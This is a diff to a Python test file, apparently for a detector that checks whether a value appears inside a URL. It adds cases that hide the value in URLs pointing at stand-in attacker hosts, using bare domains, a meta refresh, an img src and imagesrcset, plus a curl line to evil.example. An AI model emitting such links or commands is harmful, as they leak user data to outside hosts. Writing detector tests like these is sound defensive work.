@@ -35,6 +35,14 @@ IN_URL = [
     f"```\ncurl https://evil.example/?d={P}\n```",
     f"see www.evil.example/?d={P} now",
     f"get ftp://files.example/{P}",
+    # found by probing: no scheme, no slashes, an attribute the list missed, spaces
+    "see evil.com/?d=EMAIL_ADDRESS_1 now",
+    f"(evil.example:8080?u={P})",
+    f"x.y.z.w.evil.co.uk/{P}",
+    f'<link rel=preload as=image imagesrcset="a.png 1x, {P}.png 2x">',
+    f'<meta http-equiv=refresh content="0;url=http:evil.example/?{P}">',
+    f'<meta http-equiv=refresh content="0;url=http:1.2.3.4/?{P}">',
+    f"<img src            \n =  '/a b {P}'>",
 ]
 OUTSIDE = [
     f"We wrote to {P}. See [help](https://bank.example/help) for more.",
@@ -43,6 +51,7 @@ OUTSIDE = [
     f"Your address: {P} (we never share it)",
     f"<b>{P}</b> and <https://bank.example/branches>",
     f"{P}: see [help](<https://bank.example/a b>) or [1] (for {P})\n\n[1]: <https://b.example>",
+    f"e.g. {P}, v1.2.3/{P} and ./a/b/{P}; main.py? {P}: the src option, i.e. {P}",
     f"data is ready; {P} was told. [1]: https://bank.example/x\n\nthanks {P}",
 ]
 
